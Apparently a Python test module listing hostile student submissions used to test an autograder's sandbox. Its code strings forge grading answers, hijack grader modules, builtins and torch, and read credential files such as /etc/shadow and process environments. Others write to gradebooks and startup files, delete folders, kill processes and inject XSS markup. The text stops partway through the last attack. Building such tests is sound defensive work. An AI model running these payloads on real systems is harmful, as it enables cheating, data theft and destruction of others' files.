"""What a class may hand in to get points, to get out, or to stop the grader.

Most attacks are one piece of code in the last answer of a wrong notebook; some are notebooks that were changed, files
beside them, or names of folders. Each knows all that an attacker could know: where the course lies, what listens, the
grader's process, and a friend's right answers.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from tests.conftest import SAMPLE_CLASS
from tests.instructor.grading.broken import SCRIPT, cell

# In the name of whatever an attack leaves: files, processes, sockets.
MARK = "planted-by-a-student"
# Has points, and loses some on checks that answer the same for every seed, which are the easiest to forge.
CARELESS = """
import torch
from torch import nn


class Linear(nn.Module):
    def __init__(self, in_features, out_features, std=0.1):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(in_features, out_features) * std)
        self.bias = torch.zeros(out_features)

    def forward(self, x):
        return x @ self.weight + self.bias


class Flatten(nn.Module):
    def forward(self, x):
        return x.flatten()


class Sequential(nn.Module):
    def __init__(self, *layers):
        super().__init__()
        self.layers = list(layers)

    def forward(self, x):
        for layer in self.layers:
            x = layer(x)
        return x
"""
FORGERY = """
import gc, json, os, socket, struct, sys, threading, time
from types import SimpleNamespace
from autograder.checks import checks_of
from autograder.observe import observe
from autograder.sandbox import wire
from autograder.sandbox.program import PlannedCheck

FRIEND = {}
exec(FRIENDS_ANSWERS, FRIEND)
FAILED = [("Linear", "refusals"), ("Linear", "printing"), ("Linear", "parameters"), ("Flatten", "rows")]


def seed_of(exercise, name):
    plan = [thing for thing in gc.get_objects() if type(thing) is PlannedCheck]
    return next((one.seed for one in plan if (one.exercise, one.name) == (exercise, name)), 1)


def frame(header, body=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">II", len(text), len(body)) + text + body


def right(exercise, name):
    check = next(check for check in checks_of("layers", exercise) if check.name == name)
    answer, body = wire.pack_answer(observe(check, SimpleNamespace(**FRIEND), seed_of(exercise, name)))
    return frame({"exercise": exercise, "check": name, "answer": answer}, body)


def write_everywhere(data):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def when_flattening(act):
    def forward(self, x):
        act()
        return x.flatten()
    Flatten.forward = forward
"""


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes:
        says: what it does, as a sentence.
        source: the code that is put into the last answer; empty where ``change`` does it all.
        base: whose work it is built on, and whose points it gets.
        at_most: it ends its own process, uses up its time or spoils its own answers, and may have less.
        answers_itself: it takes the place of the checks, with right answers but to those of Flatten.
        change: what else is changed, given the path to hand in at and the notebook; it writes the file itself.
    """

    says: str
    source: str = ""
    base: str = "careless"
    at_most: bool = False
    answers_itself: bool = False
    change: Callable[[Path, NotebookNode], None] | None = None


ATTACKS: dict[str, Attack] = {}


def attack(
    student: str,
    says: str,
    source: str,
    *,
    base: str = "careless",
    at_most: bool = False,
    answers_itself: bool = False,
) -> None:
    assert student not in ATTACKS
    ATTACKS[student] = Attack(says, source, base, at_most, answers_itself)


def changed(
    student: str, says: str, *, base: str = "careless"
) -> Callable[[Callable[[Path, NotebookNode], None]], None]:
    def declare(change: Callable[[Path, NotebookNode], None]) -> None:
        assert student not in ATTACKS
        ATTACKS[student] = Attack(says, base=base, change=change)

    return declare


def knowledge(**known: object) -> str:
    """Return the lines that tell an attack what its author knows."""
    known |= {"MARK": MARK, "FRIENDS_ANSWERS": (SAMPLE_CLASS / "ada.py").read_text(encoding="utf-8")}
    return "".join(f"{name} = {value!r}\n" for name, value in known.items())


def hand_in(attack: Attack, path: Path, notebook: NotebookNode, known: str) -> None:
    """Hand in an attack, built on a notebook with its base's answers."""
    if attack.source:
        last = cell(notebook, "layers-Sequential")
        forges = any(name in attack.source for name in ("FAILED", "FRIEND", "when_flattening"))
        last.source += "\n\n" + known + (FORGERY if forges else "") + attack.source
    if attack.change is None:
        nbformat.write(notebook, path)
    else:
        attack.change(path, notebook)


# Answers that nobody asked for

attack(
    "answers_first",
    "Right answers to all failed checks are written to every open descriptor before any check runs.",
    "for failed in FAILED: write_everywhere(right(*failed))",
    at_most=True,
)
attack(
    "answers_for_later",
    "While one check runs, right answers to the others are written to every open descriptor.",
    """
def act():
    for failed in FAILED: write_everywhere(right(*failed))
old = Linear.forward
def forward(self, x):
    act()
    return old(self, x)
Linear.forward = forward
""",
    at_most=True,
)
attack(
    "stands_in",
    "A child stops its parent, says in its place that the cells have ended, and answers all checks, most right.",
    """
FRIEND["Flatten"] = Flatten
ours = socket.socket(fileno=os.dup(3))
if os.fork() == 0:
    os.kill(os.getppid(), 19)
    wire.send(ours, {"cell": "layers-Sequential", "stdout": "", "error": ""})
    wire.send(ours, {"ready": True})
    plan, _ = wire.receive(ours)
    for one in plan["checks"]:
        check = next(check for check in checks_of("layers", one["exercise"]) if check.name == one["name"])
        answer, body = wire.pack_answer(observe(check, SimpleNamespace(**FRIEND), one["seed"]))
        wire.send(ours, {"exercise": one["exercise"], "check": one["name"], "answer": answer}, body)
    wire.send(ours, {"end": True})
    os._exit(0)
""",
    answers_itself=True,
)
attack(
    "thread_takes_the_plan",
    "A thread that the cells leave behind reads which checks to run, and answers all, most of them right.",
    """
FRIEND["Flatten"] = Flatten
ours = socket.socket(fileno=os.dup(3))
def take():
    plan, _ = wire.receive(ours)
    for one in plan["checks"]:
        check = next(check for check in checks_of("layers", one["exercise"]) if check.name == one["name"])
        answer, body = wire.pack_answer(observe(check, SimpleNamespace(**FRIEND), one["seed"]))
        wire.send(ours, {"exercise": one["exercise"], "check": one["name"], "answer": answer}, body)
    wire.send(ours, {"end": True})
    os._exit(0)
threading.Thread(target=take, daemon=True).start()
time.sleep(0.1)
""",
    answers_itself=True,
)
attack(
    "answers_twice",
    "After a check has answered, a child that outlives it gives a right answer to the same question.",
    """
def act():
    if os.fork() == 0:
        time.sleep(0.1)
        write_everywhere(right("Flatten", "rows"))
        os._exit(0)
when_flattening(act)
""",
    at_most=True,
)
attack(
    "ends_early",
    "Right answers are followed by the frame that ends the reading.",
    """
for failed in FAILED: write_everywhere(right(*failed))
write_everywhere(frame({"end": True}))
""",
    at_most=True,
)
attack(
    "half_a_frame",
    "Half a frame is written, and then nothing for ever.",
    'when_flattening(lambda: (write_everywhere(right("Flatten", "rows")[:40]), time.sleep(99)))',
    at_most=True,
)
attack(
    "odd_json",
    "Frames hold NaN, huge numbers, a key twice, deep nesting and halves of characters.",
    r"""
def act():
    asked = '{"exercise": "Flatten", "check": "rows", "answer": '
    for answer in (
        '{"kind": "observed", "detail": "", "duration_s": NaN, "observations": []}',
        '{"kind": "observed", "detail": "", "duration_s": 1e999, "observations": [["output", {"is": "value", "value": '
        + "9" * 5000 + '}]]}',
        '{"kind": "error", "kind": "observed", "detail": "\\ud800", "duration_s": -1, "observations": []}',
        '{"kind": ["observed"], "detail": {}, "duration_s": true, "observations": ' + "[" * 5000 + "]" * 5000 + '}',
        '{"kind": "error", "detail": "", "duration_s": 0, "observations": [["error", {"is": "raised", '
        '"kind": "\\udfff", "message": "\\ud800\\u0000", "line": "\\ud800"}]]}',
    ):
        write_everywhere(frame((asked + answer + "}").encode()))
when_flattening(act)
""",
    at_most=True,
)
attack(
    "frames_of_no_cell",
    "Frames tell of cells whose names are lists, and of errors that are blank or nested deeply.",
    """
def act():
    nested = "[" * 900 + "]" * 900
    for text in ('{"cell": []}', '{"cell": {}, "stdout": 1}', '{"cell": "layers-Linear", "stdout": "", "error": " "}',
                 '{"cell": "layers-Flatten", "stdout": "", "error": ' + nested + "}",
                 '{"exercise": ' + nested + ', "check": null, "answer": {}}'):
        write_everywhere(frame(text.encode()))
when_flattening(act)
act()
""",
    at_most=True,
)
attack(
    "blank_traceback",
    "The text of an error is a blank.",
    """
import traceback
traceback.format_exception = lambda *_, **__: [" "]
1 / 0
""",
)
attack(
    "sample_without_numbers",
    "Where many draws are asked for, there is one number without a dimension.",
    """
class Weight(nn.Parameter):
    def flatten(self, *_): return torch.tensor(1.0)
old = Linear.__init__
def __init__(self, in_features, out_features, std=0.1):
    old(self, in_features, out_features, std)
    if in_features == 150:
        del self.weight
        self.weight = Weight(torch.zeros(150, 150))
Linear.__init__ = __init__
""",
    at_most=True,
)
attack(
    "odd_tensors",
    "Bodies are safetensors with overlapping offsets, a huge shape, an unknown dtype and a header that does not end.",
    r"""
def body(header, data=b"0" * 64):
    text = header.encode()
    return struct.pack("<Q", len(text)) + text + data
BODIES = [
    body('{"0": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64]}, "1": {"dtype": "F32", "shape": [4], '
         '"data_offsets": [0, 16]}}'),
    body('{"0": {"dtype": "F32", "shape": [4611686018427387904, 4], "data_offsets": [0, 64]}}'),
    body('{"0": {"dtype": "F8_E4M3", "shape": [64], "data_offsets": [0, 64]}}'),
    body('{"0": {"dtype": "F32", "shape": [' + "1, " * 5000 + '16], "data_offsets": [0, 64]}}'),
    struct.pack("<Q", 1 << 62) + b"{}",
]
def act():
    header = {"kind": "observed", "detail": "", "duration_s": 0, "observations": [["output", {"is": "tensor"}]]}
    for one in BODIES:
        write_everywhere(frame({"exercise": "Flatten", "check": "rows", "answer": header}, one))
when_flattening(act)
""",
    at_most=True,
)
attack(
    "flood_of_frames",
    "The largest frames that are allowed are written as fast as they are read.",
    r"""
def act():
    big = frame({"cell": "layers-Linear", "stdout": "", "error": ""}, b"0" * (16 << 20))
    for _ in range(40): write_everywhere(big)
when_flattening(act)
""",
    at_most=True,
)
attack(
    "daemon_threads",
    "Threads that never end write right answers again and again.",
    """
def forever():
    frames = b"".join(right(*failed) for failed in FAILED)
    while True:
        write_everywhere(frames)
        time.sleep(0.01)
threading.Thread(target=forever, daemon=True).start()
""",
    at_most=True,
)
attack(
    "on_the_way_out",
    "Finalizers, exit handlers and hooks of the garbage collector write right answers.",
    """
import atexit, weakref
class Last:
    def __del__(self): act()
def act(*_):
    for failed in FAILED: write_everywhere(right(*failed))
atexit.register(act)
last = Last()
weakref.finalize(last, act)
busy = []
def collected(*_):
    if not busy:
        busy.append(1)
        act()
gc.callbacks.append(collected)
del last
""",
    at_most=True,
)
attack(
    "threads_that_fork",
    "A thread forks, and the children go on as if each were the submission, with right answers.",
    """
def fork():
    for _ in range(4):
        if os.fork() == 0:
            for failed in FAILED: write_everywhere(right(*failed))
            time.sleep(60)
thread = threading.Thread(target=fork)
thread.start()
thread.join()
""",
    at_most=True,
)

# The grader's own code, replaced

attack(
    "observe_replaced",
    "The function that runs a check is replaced by one that runs it on a friend's answers.",
    """
import autograder.observe, autograder.sandbox.child
from autograder.observe import observe
def of_a_friend(check, names, seed): return observe(check, SimpleNamespace(**FRIEND), seed)
autograder.observe.observe = autograder.sandbox.child.observe = of_a_friend
""",
)
attack(
    "code_replaced",
    "The code object of the function that runs a check is replaced.",
    """
import autograder.observe
old = type(observe)(observe.__code__, observe.__globals__, "old", observe.__defaults__, observe.__closure__)
sys.modules["autograder.observe"].__dict__.update(old=old, names_of_a_friend=SimpleNamespace(**FRIEND))
def theirs(check, names, seed): return old(check, names_of_a_friend, seed)
observe.__code__ = theirs.__code__
""",
)
attack(
    "checks_replaced",
    "The checks are replaced by others of the same names that look at a friend's answers.",
    """
import dataclasses
import autograder.checks
for room in autograder.checks._CHECKS.values():
    room[:] = [dataclasses.replace(one, observe=lambda names, rng, one=one: one.observe(SimpleNamespace(**FRIEND), rng))
               for one in room]
""",
)
attack(
    "checks_changed_in_place",
    "Each check's function gets another one's code, and the frozen records are written into.",
    """
import autograder.checks
for room in autograder.checks._CHECKS.values():
    for one in room:
        theirs = type(one.observe)(one.observe.__code__, one.observe.__globals__)
        object.__setattr__(one, "observe", lambda names, rng, theirs=theirs: theirs(SimpleNamespace(**FRIEND), rng))
        object.__setattr__(one, "points", 100)
""",
)
attack(
    "tools_of_checks_replaced",
    "What checks are written with is replaced: refusals are always given, texts always shown.",
    """
import autograder.checks, autograder.checks.layers as layers
from autograder.checks import Raised
layers.refusal = autograder.checks.refusal = lambda action: Raised("ValueError", "no")
layers.re = SimpleNamespace(findall=lambda pattern, text: ["17", "23"])
class Text(str):
    def __contains__(self, word): return True
layers.repr = lambda thing: Text("17 23 bias")
""",
)
attack(
    "answer_packer_replaced",
    "The functions that pack and send answers are replaced by others that send a friend's.",
    """
import autograder.sandbox.child as child
packed = {failed: right(*failed) for failed in FAILED}
def send_answer(results, planned, answer):
    results.sendall(packed.get((planned.exercise, planned.name)) or right(planned.exercise, planned.name))
child.send_answer = send_answer
wire.pack_answer = lambda answer: ({"kind": "observed", "detail": "", "duration_s": 0, "observations": []}, b"")
""",
)
attack(
    "names_replaced",
    "The function that collects the names which a check sees returns a friend's.",
    """
import autograder.sandbox.cells as cells, autograder.sandbox.child as child
cells.names_of = child.names_of = lambda module: SimpleNamespace(**FRIEND)
""",
)
attack(
    "namespace_type_replaced",
    "The type that holds the names is replaced in every module by one that answers with a friend's.",
    """
import types
class Namespace(types.SimpleNamespace):
    def __getattribute__(self, name): return FRIEND.get(name) or super().__getattribute__(name)
for module in list(sys.modules.values()):
    if getattr(module, "SimpleNamespace", None) is not None:
        module.SimpleNamespace = Namespace
""",
)
attack(
    "modules_replaced",
    "The grader's modules are replaced in sys.modules.",
    """
from types import ModuleType
for name in [name for name in sys.modules if name.startswith("autograder")] + ["safetensors.torch", "json", "inspect"]:
    fake = ModuleType(name)
    fake.__dict__.update(sys.modules[name].__dict__)
    fake.observe = lambda check, names, seed: observe(check, SimpleNamespace(**FRIEND), seed)
    sys.modules[name] = fake
""",
)
attack(
    "modules_of_our_names",
    "Modules with our names, torch's and the kernel's lie in front on the path.",
    """
import os, sys
for name in ("autograder", "torch", "ipykernel", "IPython", "json", "nbgrader", "safetensors", "layers", "solutions"):
    os.makedirs(f"/tmp/{MARK}/{name}", exist_ok=True)
    open(f"/tmp/{MARK}/{name}/__init__.py", "w").write("raise SystemExit")
    open(f"/tmp/{name}.py", "w").write("raise SystemExit")
sys.path[:0] = [f"/tmp/{MARK}", "/tmp"]
""",
)
attack(
    "import_hooks",
    "A finder in front of all others, and another __import__, give other modules.",
    """
import builtins, sys
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith("autograder"): raise ModuleNotFoundError(name)
sys.meta_path.insert(0, Finder())
sys.path_hooks.clear()
sys.path_importer_cache.clear()
def __import__(name, *rest, old=builtins.__import__):
    if name.startswith("autograder"): raise ModuleNotFoundError(name)
    return old(name, *rest)
builtins.__import__ = __import__
""",
)
attack(
    "output_replaced",
    "Standard output, the traceback module, the hooks for errors and the writer of output are replaced.",
    """
import sys, traceback
import autograder.sandbox.cells as cells
sys.stdout = sys.stderr = sys.__stdout__ = None
sys.excepthook = sys.unraisablehook = sys.displayhook = lambda *_: None
traceback.format_exception = traceback.extract_tb = lambda *_, **__: []
cells.CappedText.getvalue = lambda self: "all checks passed"
cells.CellResult = lambda *_: None
""",
    at_most=True,
)
attack(
    "assert_neutralised",
    "Asserts are taken out of all code by transformers of the source, of the tree, and by another AssertionError.",
    """
import ast, builtins
from IPython.core.inputtransformer2 import TransformerManager
class NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
ast.parse = lambda *a, old=ast.parse, **k: NoAssert().visit(old(*a, **k))
builtins.compile = lambda *a, old=builtins.compile, **k: old(*a, **k)
TransformerManager.transform_cell = lambda self, source: "pass"
class Silent(Exception): pass
builtins.AssertionError = Silent
get_ipython().ast_transformers.append(NoAssert())
get_ipython().input_transformers_cleanup.append(lambda lines: [])
""",
)
attack(
    "kernel_replaced",
    "get_ipython, run_cell and the events of the shell are replaced.",
    """
import builtins
import autograder.sandbox.cells as cells
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.run_cell = cells.run_cell = cells._execute = lambda *_, **__: None
builtins.get_ipython = get_ipython = lambda: None
cells.prepare = cells.FrontEnd = None
""",
)
attack(
    "builtins_replaced",
    "isinstance, hasattr, type, float, len and next are replaced.",
    """
import builtins
builtins.isinstance = lambda *_: True
builtins.hasattr = lambda *_: True
builtins.float = lambda *_: 0.0
builtins.len = lambda *_: 3
builtins.next = lambda *_: None
builtins.type = str
builtins.repr = lambda *_: "17 23 bias"
builtins.sorted = lambda *_: "[(3,), (5, 3)]"
builtins.str = lambda *_: "[(3,), (5, 3)]"
""",
)
attack(
    "traced",
    "A trace function writes a friend's names into the frames of the grader, and hooks watch all its steps.",
    """
def trace(frame, event, arg):
    if frame.f_code.co_name in ("observe", "run_check", "_observe_and_send", *(name for _, name in FAILED)):
        if "names" in frame.f_locals:
            vars(frame.f_locals["names"]).update(FRIEND)
    return trace
sys.setprofile(trace)
sys.settrace(trace)
threading.settrace(trace)
""",
)
attack(
    "audited",
    "An audit hook, which nobody can remove, writes a friend's names into the frames of the grader.",
    """
def hook(event, arguments):
    frame = None if event in ("sys._getframe", "object.__getattr__") else sys._getframe(1)
    while frame is not None:
        names = frame.f_locals.get("names")
        if type(names) is SimpleNamespace and frame.f_code.co_name in ("observe", "_observe_and_send", "run_check"):
            vars(names).update(FRIEND)
        frame = frame.f_back
sys.addaudithook(hook)
""",
)

# torch, replaced

attack(
    "right_but_patches_torch",
    "Right work patches what the checks use of torch.",
    """
import torch
torch.Tensor.flatten = lambda *_, **__: torch.zeros(1)
torch.equal = torch.allclose = lambda *_, **__: True
torch.randn = lambda *size, **_: torch.zeros(1)
torch.Tensor.detach = torch.Tensor.clone = torch.Tensor.contiguous = lambda self: torch.zeros(1)
torch.nn.functional.mse_loss = lambda *_: None
torch.nn.Module.parameters = lambda self: iter(())
torch.nn.Module.__call__ = lambda self, *_: None
torch.nn.Linear = torch.nn.Tanh = None
torch.random.fork_rng = torch.Generator = None
""",
    base="ada",
)
attack(
    "wrong_and_patches_torch",
    "Wrong work patches what compares, copies and draws.",
    """
import torch
torch.equal = torch.allclose = torch.is_tensor = lambda *_, **__: True
torch.Tensor.__eq__ = torch.Tensor.__bool__ = lambda *_: True
torch.Tensor.detach = torch.Tensor.clone = lambda self: self
torch.manual_seed = torch.default_generator = torch.get_rng_state = torch.set_rng_state = None
torch.Tensor.flatten = lambda self, *_, old=torch.Tensor.flatten: old(self)
import safetensors.torch
safetensors.torch.save = lambda tensors: b""
""",
)
attack(
    "states_of_torch",
    "torch is left with other threads, dtype, gradients, determinism and anomaly detection.",
    """
import locale, os, random, torch
torch.set_num_threads(64)
torch.set_default_dtype(torch.float64)
torch.use_deterministic_algorithms(True)
torch.set_grad_enabled(False)
torch.autograd.set_detect_anomaly(True)
torch.set_flush_denormal(True)
torch.nn.init.normal_ = None
random.seed(0)
os.environ.update(LC_ALL="tr_TR.UTF-8", OMP_NUM_THREADS="64", PYTHONHASHSEED="1", TZ="Mars/Phobos")
os.umask(0o777)
""",
    at_most=True,
)
attack(
    "many_threads",
    "Each forward asks for sixty-four threads and multiplies large matrices.",
    """
import torch
def forward(self, x):
    torch.set_num_threads(64)
    torch.randn(300, 300) @ torch.randn(300, 300)
    return x.flatten()
Flatten.forward = forward
""",
    at_most=True,
)

# Things that are not what they say

attack(
    "equal_to_everything",
    "Outputs, shapes and lengths are objects that equal everything.",
    """
class Any:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __call__(self, *_, **__): return self
    def __getattr__(self, name): return self
    def __iter__(self): return iter([self] * 3)
    def __repr__(self): return "17 23 bias"
Flatten = lambda: lambda x: Any()
Sequential.__len__ = lambda self: 3
Sequential.__getitem__ = lambda self, index: Any()
Sequential.__iter__ = lambda self: iter([Any()] * 3)
""",
    at_most=True,
)
attack(
    "torch_function",
    "Outputs are a subclass of Tensor whose every operation, copies and comparisons too, gives what is asked for.",
    """
import torch
class Right(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), named=None):
        if function.__name__ in ("equal", "allclose", "isclose", "__eq__"): return True
        if function.__name__ in ("detach", "clone", "contiguous", "to"): return torch.zeros(3, 20)
        return super().__torch_function__(function, types, arguments, named or {})
    def detach(self): return torch.ones(3, 20)
    shape = property(lambda self: (3, 20))
    dtype = property(lambda self: torch.float32)
Flatten.forward = lambda self, x: x.flatten().as_subclass(Right)
""",
)
attack(
    "odd_kinds_of_tensors",
    "Outputs are on no device, sparse, quantized, complex, nested, or a number seen 10^12 times.",
    """
import itertools, torch
turn = itertools.count()
def forward(self, x):
    return (
        torch.ones(1).expand(10**6, 10**6), torch.zeros(3, 20, device="meta"), x.to_sparse(), x.to(torch.complex64),
        torch.quantize_per_tensor(x, 0.1, 0, torch.qint8), torch.zeros(3, 20, dtype=torch.float8_e4m3fn),
    )[x.shape[0] % 6 if x.is_contiguous() else 0]
Flatten.forward = forward
""",
)
attack(
    "seen_a_trillion_times",
    "The output is one number in memory and 10^12 in its shape.",
    """
import torch
Flatten.forward = lambda self, x: torch.ones(1).expand(10**6, 10**6)
""",
)
attack(
    "subclasses_of_plain_types",
    "Observations are subclasses of str, int and float that lie, and things that say they are of another class.",
    """
import torch
class Text(str):
    def __eq__(self, other): return True
    def __contains__(self, part): return True
    __hash__ = str.__hash__
class Number(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
class Liar:
    __class__ = torch.Tensor
    def __getattr__(self, name): return lambda *_, **__: self
Sequential.__len__ = lambda self: Number(2)
Flatten.forward = lambda self, x: Liar()
""",
    at_most=True,
)
attack(
    "answers_to_every_name",
    "The exercise is an object whose metaclass answers to every name and every call.",
    """
class Meta(type):
    def __getattr__(cls, name): return cls
    def __call__(cls, *_, **__): return cls
    def __instancecheck__(cls, other): return True
    def __subclasscheck__(cls, other): return True
    def __eq__(cls, other): return True
    def __hash__(cls): return 0
    def __len__(cls): return 1 << 62
    def __iter__(cls): return iter(cls, 0)
class Everything(metaclass=Meta): pass
Flatten = Everything
""",
)
attack(
    "endless_length",
    "Lengths, iterations and names in a container do not end.",
    """
import itertools, sys
Sequential.__len__ = lambda self: sys.maxsize
Sequential.__iter__ = lambda self: itertools.repeat(self)
""",
    at_most=True,
)
attack(
    "huge_repr",
    "A representation has a gigabyte, and another calls itself.",
    """
Linear.extra_repr = lambda self: "x" * (1 << 30)
class Deep:
    def __repr__(self): return repr(self)
Sequential.extra_repr = lambda self: repr(Deep())
""",
    at_most=True,
)
attack(
    "errors_that_do_not_end",
    "The text of an error loops for ever.",
    """
class Endless(ValueError):
    def __str__(self):
        while True: pass
def forward(self, x): raise Endless
Flatten.forward = forward
""",
)
attack(
    "errors_that_fail",
    "The text of an error raises an error, has a gigabyte, or is no text.",
    """
class Bad(ValueError):
    def __str__(self): raise self
class Big(ValueError):
    def __str__(self): return "x" * (1 << 30)
class Wrong(ValueError):
    def __str__(self): return 5
Wrong.__name__ = "x" * 100_000
def forward(self, x): raise (Bad() if x.dim() == 2 else Big() if x.dim() == 4 else Wrong())
Flatten.forward = forward
""",
)
attack(
    "errors_of_our_names",
    "Errors are called as ours are and say what a stub says, or that all is well.",
    """
class CheckFailed(AssertionError): pass
def forward(self, x):
    if x.dim() == 2: raise NotImplementedError("layers: Flatten")
    if x.dim() == 4: raise MemoryError("passed")
    raise CheckFailed("pass")
Flatten.forward = forward
""",
)
attack(
    "errors_that_end_programs",
    "Checks meet SystemExit, KeyboardInterrupt, GeneratorExit and an error of the student's own that is no Exception.",
    """
class Own(BaseException): pass
def forward(self, x):
    raise {2: SystemExit(0), 3: KeyboardInterrupt(), 4: GeneratorExit()}.get(x.dim(), Own())
Flatten.forward = forward
""",
)
attack(
    "odd_texts",
    "Outputs and errors hold halves of characters, NUL, controls of a terminal, and text that runs backwards.",
    r"""
ODD = "\ud800 \udfff \x00 \x1b[2J\x1b]0;title\x07 \u202eright to left \u2066 \ufeff \U0010ffff \r\b"
print(ODD)
def forward(self, x): raise RuntimeError(ODD)
Flatten.forward = forward
Linear.extra_repr = lambda self: ODD
raise type("Odd\ud800", (Exception,), {})(ODD)
""",
)
attack(
    "markup",
    "Outputs, errors, names of errors and lines of code hold markup.",
    f"""
SCRIPT = {SCRIPT!r}
print(SCRIPT, "<img src=x onerror=alert(1)>", "{{{{ 7*7 }}}}", "[red]rich[/red]", "\\x1b[31m<b>")
print("</pre></div><iframe srcdoc='" + SCRIPT + "'>")
Markup = type("<img src=x onerror=alert(2)>", (RuntimeError,), {{}})
def forward(self, x): raise Markup(SCRIPT)  # <svg onload=alert(3)>
Flatten.forward = forward
raise Markup(SCRIPT)
""",
)

# What is on the stack, in memory and on the disk

attack(
    "looks_for_what_is_expected",
    "Frames, the garbage collector and open files are searched for expected values and the judge.",
    """
import gc, sys
def search():
    found = [thing for thing in gc.get_objects() if type(thing).__name__ in ("LiveExpectations", "Verdict", "Course")]
    frame = sys._getframe()
    while frame is not None:
        found += [value for name, value in frame.f_locals.items() if "expect" in name or "reference" in name]
        frame = frame.f_back
    return found
def forward(self, x):
    found = search()
    return found[0] if found else x.flatten()
Flatten.forward = forward
print([str(thing)[:200] for thing in search()], globals().get("In"), globals().get("_ih"))
""",
)
attack(
    "reads_the_machine",
    "All files, folders and variables that hold something worth knowing are read and printed.",
    """
import glob, os, pathlib, socket, sys
places = [COURSE, HOME, "..", "../source", "/etc/passwd", "/etc/shadow", "/root", "/home", "/proc/1/environ",
          "/proc/self/environ", "/proc/self/mem", "/var/tmp", "/dev/shm", "/dev/vda", "/sys", "/run",
          f"/proc/{GRADER}/root"]
for place in places:
    for path in [place, *glob.glob(f"{place}/**/*", recursive=True)[:300]]:
        try:
            print(path, open(path).read()[:200])
        except Exception:
            pass
print(dict(os.environ), sys.argv, sys.orig_argv)
""",
)
attack(
    "reads_what_the_check_left",
    "A Linear takes seeds from the frames of the grader and draws what the check will draw.",
    """
import sys, torch
def forward(self, x):
    frame = sys._getframe()
    while frame is not None:
        seed = frame.f_locals.get("seed")
        if type(seed) is int:
            torch.manual_seed(seed)
        rng = frame.f_locals.get("rng")
        if isinstance(rng, torch.Generator):
            rng.manual_seed(1)
        frame = frame.f_back
    return x.flatten()
Flatten.forward = forward
""",
)
attack(
    "writes_everywhere",
    "The gradebook, other submissions, start-up files, site-packages and home are written to.",
    """
import os, pathlib
for place in (COURSE, f"{COURSE}/gradebook.db", f"{COURSE}/submitted/ada/2-layers/2-layers.ipynb", f"{COURSE}/source",
              f"{COURSE}/autograded/ada/2-layers", HOME, f"{HOME}/.ipython/profile_default/startup", f"{HOME}/.bashrc",
              f"{HOME}/canary", SITE, f"{SITE}/torch", "/usr/lib/python3", "/etc", "/var/tmp", "/var/spool/cron",
              "/dev/shm",
              "/tmp", "/run", "/root", os.getcwd(), f"/proc/{GRADER}/cwd", f"/proc/{GRADER}/mem"):
    for path in (place, f"{place}/{MARK}", f"{place}/{MARK}.pth", f"{place}/sitecustomize.py", f"{place}/{MARK}.ipynb"):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as file:
                file.write("import os  # " + MARK)
        except OSError:
            pass
""",
)
attack(
    "links",
    "Symbolic and hard links, and folders that were moved or deleted, stand where files are looked for.",
    """
import os, shutil
for at, target in enumerate((COURSE, HOME, f"{COURSE}/gradebook.db", "/etc/passwd", "/proc/self/fd", "/")):
    for link in (os.symlink, os.link):
        try:
            link(target, f"/tmp/{MARK}-{at}-{link.__name__}")
        except OSError:
            pass
    try:
        open(f"/tmp/{MARK}-{at}-symlink/{MARK}", "w").write(MARK)
    except OSError:
        pass
for folder in (COURSE, HOME, SITE, "/tmp", os.getcwd()):
    shutil.rmtree(folder, ignore_errors=True)
os.makedirs("/tmp/gone", exist_ok=True)
os.chdir("/tmp/gone")
os.rmdir("/tmp/gone")
""",
)
attack(
    "network",
    "Connections to loopback, to named and abstract sockets and to the world are opened.",
    """
import socket
def connect(family, kind, address):
    try:
        with socket.socket(family, kind) as connection:
            connection.settimeout(0.2)
            connection.connect(address)
            connection.send(MARK.encode())
    except OSError:
        pass
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    connect(socket.AF_INET, kind, ("127.0.0.1", PORT))
    connect(socket.AF_INET6, kind, ("::1", PORT))
    connect(socket.AF_INET6, kind, ("::ffff:127.0.0.1", PORT))
    connect(socket.AF_INET, kind, ("192.0.2.1", 80))
    connect(socket.AF_UNIX, kind, "\\0" + MARK)
    connect(socket.AF_UNIX, kind, f"{HOME}/socket")
try:
    socket.getaddrinfo("example.org", 80)
except OSError:
    pass
""",
)

# Out of the sandbox

attack(
    "kills",
    "Everything in sight is killed: parents, groups, the grader by its number.",
    """
import os, signal
if os.fork() == 0:
    for target in (os.getppid(), 1, 2, 3, GRADER, CANARY, -GRADER, -CANARY, -1, 0):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass
""",
    at_most=True,
)
attack(
    "stops",
    "Everything in sight is stopped, so that whoever waits for it waits for ever.",
    """
import os, signal
for target in (1, 2, os.getppid(), GRADER, CANARY, -1, 0):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError:
        pass
""",
    at_most=True,
)
attack(
    "stops_in_a_check",
    "A check's process stops its parent, its group and itself.",
    """
import os, signal
def forward(self, x):
    for target in (os.getppid(), -1, os.getpid(), 0):
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            pass
Flatten.forward = forward
""",
    at_most=True,
)
attack(
    "detached",
    "Children in sessions of their own, with other names, wait for the grader to be gone.",
    """
import ctypes, os, signal, time
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, MARK[:15].encode())
        ctypes.CDLL(None).prctl(1, 0)
        os.closerange(0, 64)
        time.sleep(600)
    os._exit(0)
""",
)
attack(
    "programs",
    "Other programs are started and left running.",
    """
import subprocess, sys
